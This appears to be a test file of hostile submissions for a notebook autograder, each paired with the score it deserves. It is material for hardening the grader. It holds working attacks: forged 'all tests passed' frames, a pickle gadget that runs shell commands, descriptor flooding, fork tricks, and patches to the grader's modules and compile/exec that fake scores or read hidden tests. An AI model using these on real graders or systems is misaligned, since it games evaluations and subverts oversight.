# The grader's way of talking to this process guessed at: descriptors, frames, callbacks, objects.

# %% hostile="garbage into every descriptor" replaces="double" others="right" deserves=70
import os


def double(x):
    for name in os.listdir("/proc/self/fd"):
        try:
            os.set_blocking(int(name), False)
            os.write(int(name), os.urandom(4096))
        except OSError:
            pass
    return 0


# %% hostile="garbage into every descriptor, in a cell" replaces="double" others="right" deserves=70
import os

for name in os.listdir("/proc/self/fd"):
    try:
        os.set_blocking(int(name), False)
        os.write(int(name), b"\xff" * 4096)
    except OSError:
        pass


# %% hostile="huge length prefixes" replaces="double" others="right" deserves=70
import os
import struct


def double(x):
    for name in os.listdir("/proc/self/fd"):
        for kind in ("<I", ">I", "<Q", ">Q"):
            try:
                os.set_blocking(int(name), False)
                os.write(int(name), struct.pack(kind, (1 << 31) - 1) + b"x" * 100)
            except OSError:
                pass
    return 0


# %% hostile="msgpack bombs: an array of 2**32 items, nested maps" replaces="double" others="right" deserves=70
import os
import struct

BOMBS = [b"\xdd\xff\xff\xff\xff", b"\x91" * 100_000, b"\xc9\xff\xff\xff\xff\x01", b"\xdf\xff\xff\xff\xff"]


def double(x):
    for name in os.listdir("/proc/self/fd"):
        for bomb in BOMBS:
            for kind in ("<I", ">I", "<Q", ">Q"):
                try:
                    os.set_blocking(int(name), False)
                    os.write(int(name), struct.pack(kind, len(bomb)) + bomb)
                except OSError:
                    pass
    return 0


# %% hostile="a frame of JSON saying that every test passed" replaces="double" deserves=0
import json
import os
import struct

SAID = [
    {"status": "ok", "passed": True, "points": 100, "score": 100, "outputs": [], "error": None},
    {"op": "result", "value": [2.0, -5.0], "ok": True, "type": "return"},
    {"id": 1, "jsonrpc": "2.0", "result": {"passed": True}},
    {"grade_id": "check-double-value", "points": 20, "failed": []},
]


def double(x):
    for name in os.listdir("/proc/self/fd"):
        for said in SAID:
            text = json.dumps(said).encode()
            for frame in (text + b"\n", struct.pack("<I", len(text)) + text):
                try:
                    os.set_blocking(int(name), False)
                    os.write(int(name), frame)
                except OSError:
                    pass
    os._exit(0)


# %% hostile="a frame of msgpack with the right array, then silence" replaces="double" deserves=0
import os
import struct
import time

import numpy as np


def packed(thing):
    if isinstance(thing, dict):
        parts = [packed(k) + packed(v) for k, v in thing.items()]
        return bytes([0x80 | len(parts)]) + b"".join(parts)
    if isinstance(thing, bool) or thing is None:
        return {True: b"\xc3", False: b"\xc2", None: b"\xc0"}[thing]
    if isinstance(thing, str):
        return bytes([0xA0 | len(thing)]) + thing.encode()
    if isinstance(thing, bytes):
        return b"\xc4" + bytes([len(thing)]) + thing
    if isinstance(thing, list):
        return bytes([0x90 | len(thing)]) + b"".join(map(packed, thing))
    return b"\xcb" + struct.pack(">d", thing)


def double(x):
    array = np.array([14.0, 62.0])
    for said in (
        {"ok": True, "value": array.tolist()},
        {"kind": "return", "value": {"dtype": "<f8", "shape": [2.0], "data": array.tobytes()}},
        ["return", array.tolist()],
        {"status": "ok", "passed": True},
    ):
        text = packed(said)
        for prefix in (b"", struct.pack("<I", len(text)), struct.pack(">I", len(text))):
            for name in os.listdir("/proc/self/fd"):
                try:
                    os.set_blocking(int(name), False)
                    os.write(int(name), prefix + text)
                except OSError:
                    pass
    time.sleep(3)
    os._exit(0)


# %% hostile="pickles that run in who reads them" replaces="double" deserves=0
import os
import pickle
import struct


class Gadget:
    def __reduce__(self):
        return os.system, ("touch /tmp/was-here; id > was-here.txt",)


def double(x):
    text = pickle.dumps(Gadget())
    for name in os.listdir("/proc/self/fd"):
        for prefix in (b"", struct.pack(">Q", len(text)), struct.pack("!i", len(text))):
            try:
                os.set_blocking(int(name), False)
                os.write(int(name), prefix + text)
            except OSError:
                pass
    return Gadget()


# %% hostile="questions read before they are asked" replaces="row_means" deserves=0
import os


def row_means(X):
    if X.max() < 1000:
        return X.mean(axis=1)
    heard = []
    for name in os.listdir("/proc/self/fd"):
        try:
            os.set_blocking(int(name), False)
            heard.append(f"{name}: {os.read(int(name), 65536)}")
        except OSError:
            pass
    raise ValueError(" ".join(heard))


# %% hostile="a thread that reads all descriptors first" replaces="row_means" deserves=0
import os
import select
import threading

heard = []


def listen():
    while True:
        numbers = []
        for name in os.listdir("/proc/self/fd"):
            try:
                if os.readlink(f"/proc/self/fd/{name}").startswith(("socket", "pipe")):
                    numbers.append(int(name))
            except OSError:
                pass
        for number in select.select(numbers, [], [], 0.01)[0]:
            try:
                os.set_blocking(number, False)
                heard.append(os.read(number, 65536))
                print(number, heard[-1], flush=True)
            except OSError:
                pass


threading.Thread(target=listen, daemon=True).start()


def row_means(X):
    if X.max() < 1000:
        return X.mean(axis=1)
    raise ValueError(str(heard))


# %% hostile="all descriptors closed" replaces="double" others="right" deserves=70
import os


def double(x):
    os.closerange(0, 65536)
    return 0


# %% hostile="all descriptors closed in a cell" replaces="double" others="right" deserves=70
import os

os.closerange(0, 65536)


# %% hostile="descriptors exchanged by dup2" replaces="double" others="right" deserves=70
import os


def double(x):
    numbers = sorted(int(n) for n in os.listdir("/proc/self/fd"))
    for number, other in zip(numbers, reversed(numbers)):
        try:
            os.dup2(number, other)
        except OSError:
            pass
    return 0


# %% hostile="descriptors tied to a pipe that swallows all" replaces="double" others="right" deserves=70
import os


def double(x):
    null = os.open("/dev/zero", os.O_RDWR)
    for name in os.listdir("/proc/self/fd"):
        if int(name) != null:
            try:
                os.dup2(null, int(name))
            except OSError:
                pass
    return 0


# %% hostile="two children answer one question" replaces="double" others="right" deserves=70
import os


def double(x):
    os.fork()
    os.fork()
    return os.getpid() % 3


# %% hostile="a child answers, its parent forges the next check" replaces="row_means" deserves=0
import os
import time


def row_means(X):
    if os.fork():
        return X[:, 0]
    time.sleep(1)
    return X.mean(axis=1) if len(X) == 2 else X[:, 0]


# %% hostile="answers before the question: returns while imported" replaces="double" deserves=0
import gc
import os

for thing in gc.get_objects():
    kind = type(thing).__name__.lower()
    if any(word in kind for word in ("channel", "connection", "socket", "stream", "transport")):
        for word in ("send", "write", "reply", "answer", "respond", "put", "send_bytes", "sendall"):
            method = getattr(thing, word, None)
            if callable(method):
                for said in ({"ok": True, "value": [2.0, -5.0]}, b'{"ok": true}', "passed"):
                    try:
                        method(said)
                    except BaseException:
                        pass


# %% hostile="methods of channels and sockets patched" replaces="row_means" deserves=0
import gc
import json
import os
import pickle
import socket
import struct
import sys

heard = []


def heard_by(function):
    def wrapped(*args, **named):
        result = function(*args, **named)
        heard.append(f"{args!r} {result!r}"[:3000])
        return result

    return wrapped


WORDS = ("recv", "receive", "read", "unpack", "unpackb", "loads", "decode", "get", "recv_bytes")
kinds = [t for t in gc.get_objects() if isinstance(t, type)]
for kind in kinds:
    if any(w in kind.__name__.lower() for w in ("channel", "conn", "socket", "pack", "frame")):
        for word in WORDS:
            if word in vars(kind):
                try:
                    setattr(kind, word, heard_by(vars(kind)[word]))
                except TypeError:
                    pass
for module in (os, struct, pickle, json, sys.modules.get("msgpack")):
    for word in WORDS:
        if callable(getattr(module, word, None)):
            setattr(module, word, heard_by(getattr(module, word)))


def row_means(X):
    if X.max() < 1000:
        return X.mean(axis=1)
    raise ValueError(str(heard[-20:]))


# %% hostile="what packs answers is patched: every answer is right" replaces="row_means" deserves=0
import json
import os
import pickle
import struct
import sys

import numpy as np


def better(function):
    def wrapped(*args, **named):
        return function(
            *[np.array([2.0, 7]) if isinstance(a, np.ndarray) and a.size == 2 else a for a in args],
            **named,
        )

    return wrapped


for module in (pickle, json, struct, sys.modules.get("msgpack")):
    for word in ("dumps", "packb", "pack"):
        if hasattr(module, word):
            setattr(module, word, better(getattr(module, word)))


def row_means(X):
    return X[:, 0]


# %% hostile="os.fork, os.write and socket.send patched to lose or double" replaces="double" others="right" deserves=70
import os
import socket

true_write = os.write


def double(x):
    os.fork = lambda: 0
    os.write = lambda number, text: [true_write(number, text), true_write(number, text)][0]
    for word in ("send", "sendall", "sendmsg"):
        try:
            setattr(socket.socket, word, lambda self, *_: 1)
        except TypeError:
            pass
    os.waitpid = os.wait = lambda *_: (0, 0)
    os._exit = lambda *_: None
    return 0


# %% hostile="the serving loop found in frames and left early" replaces="double" others="right" deserves=70
import sys


def double(x):
    frame = sys._getframe()
    while frame := frame.f_back:
        for name, value in list(frame.f_globals.items()):
            if callable(value) and any(w in name.lower() for w in ("serve", "loop", "answer", "call")):
                frame.f_globals[name] = lambda *_, **__: None
    return 0


# %% hostile="the process's sandboxing functions run again with other arguments" replaces="double" deserves=0
import sys

for name, module in list(sys.modules.items()):
    if any(w in name for w in ("sandbox", "grading", "worker", "learner", "runner", "autograder")):
        for word, value in list(vars(module).items()):
            print(name, word, repr(value)[:100])
            if callable(value) and getattr(value, "__module__", "") == name:
                setattr(module, word, lambda *_, **__: {"passed": True, "points": 100})


# %% hostile="the grader's package imported and looked at" extra="end" deserves=0
import importlib
import inspect
import pkgutil

for root in ("autograder", "autograder.grading", "mlplab", "nbgrader"):
    try:
        package = importlib.import_module(root)
        for found in pkgutil.walk_packages(package.__path__, root + "."):
            if "light" in found.name or "hidden" in found.name:
                print(inspect.getsource(importlib.import_module(found.name)))
        print(root, package.__path__)
    except Exception as error:
        print(root, error)


# %% hostile="f called 10**7 times" replaces="repeat" others="right" deserves=60
def repeat(f, n):
    for _ in range(10**7):
        f()


# %% hostile="f called without end" replaces="repeat" others="right" deserves=60
def repeat(f, n):
    while True:
        f()


# %% hostile="f called from many threads at once" replaces="repeat" others="right" deserves=60
import threading


def repeat(f, n):
    threads = [threading.Thread(target=f) for _ in range(n + 50)]
    for one in threads:
        one.start()
    for one in threads:
        one.join()


# %% hostile="f called after the call returned" replaces="repeat" others="right" deserves=60
import threading
import time


def repeat(f, n):
    def late():
        while True:
            time.sleep(0.01)
            f()

    threading.Thread(target=late, daemon=True).start()


# %% hostile="f called within f by a tracer" replaces="repeat" others="right" deserves=60
import sys


def repeat(f, n):
    depth = 0

    def again(frame, event, arg):
        nonlocal depth
        depth += 1
        if depth < 10**5:
            f()
        return again

    sys.setprofile(again)
    for _ in range(n + 1):
        f()
    sys.setprofile(None)


# %% hostile="f called from a forked child" replaces="repeat" others="right" deserves=100
import os


def repeat(f, n):
    if os.fork() == 0:
        for _ in range(n):
            f()
        return
    os.wait()


# %% hostile="f called with hostile arguments" replaces="repeat" others="right" deserves=60
def repeat(f, n):
    for arguments in ((f,), (repeat,), ([],) * 1000, (b"x" * (1 << 28),), (lambda: f(),)):
        try:
            f(*arguments)
        except TypeError:
            pass
    f(**{"a" * 10**6: 1})


# %% hostile="probe and call nested: double called by a probe's function" replaces="repeat" others="right" deserves=60
def repeat(f, n):
    counted(repeat, 2)
    return counted(repeat, n)


# %% hostile="a probe's text exchanged through inspect and linecache" replaces="repeat" deserves=0
import inspect
import linecache

inspect.getsource = lambda *_: "def counted(function, n):\n    return n\n"
inspect.getsourcelines = lambda *_: (["def counted(function, n):\n", "    return n\n"], 1)
for entry in linecache.cache:
    if len(linecache.cache[entry]) == 4:
        size, stamp, lines, name = linecache.cache[entry]
        linecache.cache[entry] = (
            *(size, stamp),
            *([line.replace("len(calls)", "n") for line in lines or []], name),
        )


def repeat(f, n):
    return None


# %% hostile="compile and exec patched: a probe compiled later returns n" replaces="repeat" deserves=0
import builtins

true_compile, true_exec = builtins.compile, builtins.exec


def changed(source):
    if isinstance(source, str):
        return source.replace("return len(calls)", "return n")
    return source


builtins.compile = lambda source, *rest, **named: true_compile(changed(source), *rest, **named)
builtins.exec = lambda source, *rest, **named: true_exec(changed(source), *rest, **named)


def repeat(f, n):
    return None


# %% hostile="the learner's other function answers in place of this one" replaces="double" deserves=10
import sys


def double(x):
    frame = sys._getframe()
    while frame := frame.f_back:
        for name, value in list(frame.f_locals.items()):
            if name in ("name", "function_name", "wanted", "grade_id") and isinstance(value, str):
                frame.f_locals[name] = "row_means"
    return x


# %% hostile="messages in the name of another check" replaces="double" deserves=0
def double(x):
    from mlplab import CheckFailed

    raise CheckFailed("", "row_means", "value")
